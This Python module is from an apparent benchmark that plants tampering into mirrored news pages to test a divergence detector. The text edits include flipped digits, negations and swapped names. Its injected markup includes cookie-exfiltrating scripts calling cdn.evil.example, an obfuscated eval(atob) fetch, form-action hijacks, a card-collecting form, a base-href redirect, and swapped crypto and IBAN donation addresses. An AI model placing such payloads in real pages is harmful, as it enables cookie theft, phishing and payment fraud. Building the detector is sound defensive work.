"""What a liar plants in its copy of a page, and how the comparison has to call it."""

import html
import random
import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from benchmarks.divergence.markup import Kind as PieceKind
from benchmarks.divergence.markup import article_runs, before_end, first_tag, folded, pieces, put
from benchmarks.divergence.pages import Sample, Served
from wireroom.stages.mirrors.divergence import DivergenceKind

EVIL = "cdn.evil.example"
_NOT: Mapping[str, tuple[str, str]] = {  # a negation to put in, and those that may be there
    "en": ("not", r"(?:not|never|no)"),
    "de": ("nicht", r"(?:nicht|nie|kein|keine)"),
    "fr": ("pas", r"(?:pas|jamais)"),
    "es": ("no", r"(?:no|nunca)"),
    "it": ("non", r"(?:non|mai)"),
    "ru": ("не", r"не"),
}
_WORD = re.compile(r"(?<![^\W_&;#'’-])[^\W\d_]{2,}(?![\w;'’-])")
_NAME = re.compile(r"(?<=[a-zа-яäöüß,] )[A-ZА-ЯÄÖÜ][\wäöüß]{2,}(?![\w;'’-])")
_TAG = re.compile(r"<[^>]*>")
_DIGIT = re.compile(r"(?<![&#\w])\d+(?![\w;])")
_ANCHOR = re.compile(r"<a\b[^>]*?\shref\s*=\s*(?:\"([^\"]+)\"|'([^']+)')[^>]*>", re.IGNORECASE)
_ADDRESSES: Mapping[str, tuple[str, str]] = {
    "BTC": ("1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2", "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"),
    "ETH": (
        "0xde0B295669a9FD93d5F28D9Ec85E40f4cb697BAe",
        "0x742d35Cc6634C0532925a3b844Bc454e4438f44e",
    ),
    "TRX": ("TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t", "TJRabPrwbZy45sbavfcjinPJC18kjpRTv8"),
    "XMR": (
        "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
        "888tNkZrPN6JsEgekjMnABU4TBzc2Dt29EPAvkRxbANsAnjyPbb3iQ1YBRk1UXcdRsiKc9dhwMVgN5S9cQUiyoogDavup3H",
    ),
    "IBAN": ("DE89 3704 0044 0532 0130 00", "GB29 NWBK 6016 1331 9268 19"),
    "card": ("4111 1111 1111 1111", "5555 5555 5555 4444"),
}
_EDITED = frozenset({DivergenceKind.EDITED})
_INJECTED = frozenset({DivergenceKind.INJECTED})
_SHORTER = frozenset({DivergenceKind.TRUNCATED, DivergenceKind.EDITED})
_LINKS = frozenset({DivergenceKind.INJECTED, DivergenceKind.EDITED})
Plan = Callable[[Sample, random.Random], str | Served | None]


@dataclass(frozen=True, slots=True, kw_only=True)
class Plant:
    """A planted change: None where the page has no place for it.

    `kinds` are the verdicts that count as found; `is_text` says that it is made in the article's
    words: what does not reach the text that is filed was not planted. All other changes leave the
    words alone, so that those are extracted once.
    """

    name: str
    change: Plan
    kinds: frozenset[DivergenceKind]
    is_text: bool = False


def one_digit(one: Sample, rng: random.Random) -> str | None:
    """One digit of one number."""
    place = _place(one, rng, _DIGIT)
    if place is None:
        return None
    start, end = place
    at = rng.randrange(start, end)
    others = [digit for digit in "123456789" if digit != one.source[at]]
    return put(one.source, at, at + 1, rng.choice(others))


def negation_added(one: Sample, rng: random.Random) -> str | None:
    """A "not" before a word."""
    place = _place(one, rng, _WORD)
    word = _NOT.get(_language(one), _NOT["en"])[0]
    return put(one.source, place[0], place[0], f"{word} ") if place else None


def negation_removed(one: Sample, rng: random.Random) -> str | None:
    """A "not" taken out."""
    words = _NOT.get(_language(one), _NOT["en"])[1]
    place = _place(one, rng, re.compile(rf"(?<=\w ){words} (?=\w)"))
    return put(one.source, *place, "") if place else None


def name_swapped(one: Sample, rng: random.Random) -> str | None:
    """Another name of the article in a name's place."""
    place = _place(one, rng, _NAME)
    if place is None:
        return None
    name = one.source[slice(*place)]
    others = sorted({m[0] for m in _NAME.finditer(one.copy.specimen.text)} - {name}) or ["Robinson"]
    return put(one.source, *place, rng.choice(others))


def link_changed(one: Sample, rng: random.Random) -> str | None:
    """A link of the article leads to another host."""
    place = _link(one, rng)
    return put(one.source, *place, f"https://{EVIL}/give") if place else None


def link_bent(one: Sample, rng: random.Random) -> str | None:
    """A link of the article leads to another page of the same host."""
    place = _link(one, rng)
    if place is None:
        return None
    link = html.unescape(one.source[slice(*place)])
    bent = re.sub(r"^((?:https?:)?//[^/?#]+)?/?[^?#]*", r"\1/bent/elsewhere", link, count=1)
    return put(one.source, *place, html.escape(bent))


def link_added(one: Sample, rng: random.Random) -> str | None:
    """A word of the article becomes a link."""
    place = _place(one, rng, _WORD, outside=_inside(one.source, "a"))
    if place is None:
        return None
    word = one.source[slice(*place)]
    return put(one.source, *place, f'<a href="https://{EVIL}/give">{word}</a>')


def paragraph_removed(one: Sample, rng: random.Random) -> str | None:
    """One paragraph of ten words or more."""
    found = _paragraphs(one)
    if len(found) < 3:  # noqa: PLR2004 - or else little is left
        return None
    return put(one.source, *rng.choice(found[1:]), "")


def cut_off(one: Sample, _: random.Random) -> str | None:
    """The last third of the paragraphs."""
    found = _paragraphs(one)
    if len(found) < 3:  # noqa: PLR2004
        return None
    source = one.source
    for start, end in reversed(found[len(found) - len(found) // 3 :]):
        source = put(source, start, end, "")
    return source


def headline_changed(one: Sample, rng: random.Random) -> str | None:
    """One word of the headline, wherever the page states it."""
    words = [word for word in _WORD.findall(one.copy.specimen.title) if len(word) > 3]  # noqa: PLR2004
    spellings = {one.copy.specimen.title, html.escape(one.copy.specimen.title, quote=False),
                 html.escape(one.copy.specimen.title)}  # fmt: skip
    if not words or not any(said in one.source for said in spellings):
        return None
    word = rng.choice(words)
    source = one.source
    for said in spellings:
        source = source.replace(said, said.replace(word, "Falsified", 1))
    return source


def added(said: str) -> Plan:
    """Something before the body's end."""
    return lambda one, _: before_end(one.source, said)


def in_head(said: str) -> Plan:
    """Something in the head."""

    def change(one: Sample, _: random.Random) -> str | None:
        tag = first_tag(one.source, "head")
        return put(one.source, tag.end, tag.end, said) if tag else None

    return change


def on_body(said: str) -> Plan:
    """An attribute of the body."""

    def change(one: Sample, _: random.Random) -> str | None:
        tag = first_tag(one.source, "body")
        at = tag.start + len("<body") if tag else 0
        return put(one.source, at, at, f" {said}") if tag else None

    return change


def form_bent(one: Sample, _: random.Random) -> str | None:
    """The first form of the page is sent elsewhere."""
    tag = first_tag(one.source, "form")
    found = re.search(r"\saction\s*=\s*[\"']([^\"']*)", tag.said, re.IGNORECASE) if tag else None
    if tag is None or found is None:
        return None
    start, end = (tag.start + at for at in found.span(1))
    return put(one.source, start, end, f"https://{EVIL}/login")


def appended_to_script(one: Sample, rng: random.Random) -> str | None:
    """Code at the end of a script that the page has."""
    ends = [
        piece.end - len("</script>")
        for piece in pieces(one.source)
        if piece.kind is PieceKind.CODE and re.match(r"<script\s*(type=.text/javascript.)?\s*>",
                                                    piece.said, re.IGNORECASE)
    ]  # fmt: skip
    code = f";(new Image).src='//{EVIL}/?'+document.cookie;"
    return put(one.source, at := rng.choice(ends), at, code) if ends else None


def payment_added(address: str) -> Plan:
    """An appeal with an address at the page's end."""
    return added(f"<div>Support us: <b>{address}</b></div>")


def payment_exchanged(before: str, after: str) -> Plan:
    """The outlet's own appeal with another's address."""

    def change(one: Sample, _: random.Random) -> Served:
        origin, mirror = (
            before_end(one.source, f"<div>Support us: <b>{address}</b></div>")
            for address in (before, after)
        )
        return Served(body=mirror, origin=origin)

    return change


def _place(
    one: Sample, rng: random.Random, pattern: re.Pattern[str], outside: list[range] | None = None
) -> tuple[int, int] | None:
    """Where the pattern stands in the article's text, in the source; one of all places."""
    found = [
        (run.start + match.start(), run.start + match.end())
        for run in article_runs(one.source, one.copy.specimen.text)
        for match in pattern.finditer(run.said)
    ]
    free = [(a, b) for a, b in found if not any(a in part for part in outside or [])]
    return rng.choice(free) if free else None


def _link(one: Sample, rng: random.Random) -> tuple[int, int] | None:
    """The target of one of the links in the article's paragraphs, in the source."""
    text = folded(one.copy.specimen.text)
    found = []
    for start, end in _paragraphs(one):
        for match in _ANCHOR.finditer(one.source, start, end):
            number = 1 if match[1] else 2
            words = folded(_TAG.sub("", one.source[match.end() :].split("</a", 1)[0]))
            is_page = re.match(
                r"(?:https?:|/)", html.unescape(match[number]).strip(), re.IGNORECASE
            )
            if is_page and words and words in text:
                found.append(match.span(number))
    return rng.choice(found) if found else None


def _paragraphs(one: Sample) -> list[tuple[int, int]]:
    """The paragraphs whose words stand in the article's text, in order.

    What stands in the page twice may be a teaser that repeats the standfirst: not the article's.
    """
    text = folded(one.copy.specimen.text)
    page = folded(_TAG.sub("", one.source))
    found = []
    for match in re.finditer(
        r"<p\b[^>]*>(?:(?!<p\b|</?div\b).)*?</p>", one.source, re.IGNORECASE | re.DOTALL
    ):
        words = folded(_TAG.sub("", match[0]))
        is_own = len(words.split()) >= 10 and words in text  # noqa: PLR2004
        if is_own and page.count(words) == 1:
            found.append(match.span())
    return found


def _inside(source: str, tag: str) -> list[range]:
    return [
        range(*match.span())
        for match in re.finditer(rf"<{tag}\b.*?</{tag}>", source, re.IGNORECASE | re.DOTALL)
    ]


def _language(one: Sample) -> str:
    found = re.search(r"<html[^>]*?\slang\s*=\s*[\"']?(\w\w)", one.source, re.IGNORECASE)
    return found[1].lower() if found else "en"


PLANTS: tuple[Plant, ...] = (
    Plant(name="one digit of a number", change=one_digit, kinds=_EDITED, is_text=True),
    Plant(name="negation added", change=negation_added, kinds=_EDITED, is_text=True),
    Plant(name="negation removed", change=negation_removed, kinds=_EDITED, is_text=True),
    Plant(name="name swapped", change=name_swapped, kinds=_EDITED, is_text=True),
    Plant(name="headline changed", change=headline_changed, kinds=_EDITED, is_text=True),
    Plant(name="paragraph removed", change=paragraph_removed, kinds=_SHORTER, is_text=True),
    Plant(name="last third cut off", change=cut_off, kinds=_SHORTER, is_text=True),
    Plant(name="link to another host", change=link_changed, kinds=_LINKS),
    Plant(name="link to another page", change=link_bent, kinds=_LINKS),
    Plant(name="link added", change=link_added, kinds=_LINKS),
    Plant(name="script of another host", kinds=_INJECTED,
          change=added(f'<script src="https://{EVIL}/x.js"></script>')),
    Plant(name="script of its own", kinds=_INJECTED,
          change=added('<script src="/assets/helper.js"></script>')),
    Plant(name="inline script, fetch", kinds=_INJECTED,
          change=added(f'<script>fetch("https://{EVIL}/c?"+document.cookie)</script>')),
    Plant(name="inline script, eval", kinds=_INJECTED,
          change=added("<script>eval(atob('ZmV0Y2goJy8vZXZpbC50ZXN0Jyk='))</script>")),
    Plant(name="inline script, no host", kinds=_INJECTED,
          change=added("<script>document.body.innerHTML='<p>Closed.</p>'</script>")),
    Plant(name="code in an own script", kinds=_INJECTED, change=appended_to_script),
    Plant(name="event handler", kinds=_INJECTED, change=on_body('onload="steal(document)"')),
    Plant(name="handler of a picture", kinds=_INJECTED,
          change=added('<img src="/x.gif" onerror="go()">')),
    Plant(name="link that runs code", kinds=_INJECTED,
          change=added('<p><a href="javascript:go()">More</a></p>')),
    Plant(name="meta refresh", kinds=_INJECTED,
          change=in_head(f'<meta http-equiv="refresh" content="5; url=https://{EVIL}/">')),
    Plant(name="base", kinds=_INJECTED, change=in_head(f'<base href="https://{EVIL}/">')),
    Plant(name="frame", kinds=_INJECTED,
          change=added(f'<iframe src="https://{EVIL}/f"></iframe>')),
    Plant(name="form added", kinds=_INJECTED,
          change=added(f'<form action="https://{EVIL}/pay"><input name="card"></form>')),
    Plant(name="form sent elsewhere", kinds=_INJECTED, change=form_bent),
    *(Plant(name=f"{name} added", kinds=_INJECTED, change=payment_added(first))
      for name, (first, _) in _ADDRESSES.items()),
    *(Plant(name=f"{name} exchanged", kinds=_INJECTED, change=payment_exchanged(*pair))
      for name, pair in _ADDRESSES.items()),
)  # fmt: skip
